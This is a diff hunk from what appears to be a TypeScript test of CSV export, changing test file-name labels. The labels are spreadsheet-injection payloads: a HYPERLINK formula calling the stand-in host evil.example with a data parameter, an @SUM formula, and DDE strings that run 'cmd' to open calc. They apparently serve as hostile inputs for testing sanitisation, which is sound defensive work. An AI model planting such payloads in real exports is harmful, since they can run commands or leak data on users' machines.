@@ -64,7 +64,8 @@ function dossierCsv(year: number, rows: { number: string; name: string; f: numbe
   ].join('\r\n');
 }
 
-const CURRENT_LABEL = '=HYPERLINK("https://evil.example/?f=";"a")-31-12-2024.csv';
+// A file's name, which cannot hold '/' or '\\': cells show a label up to its last one (the name, never the path).
+const CURRENT_LABEL = '=HYPERLINK("evil.example?f=";"a")-31-12-2024.csv';
 const PREVIOUS_LABEL = '@SUM(1+1)-31-12-2023.csv';
 const SIGNING_LABEL = "-2+3+cmd|' /C calc'!A0-2024-Q1.csv";
 const XPERT_LABEL = '+cmd|calc-2024-01.csv';
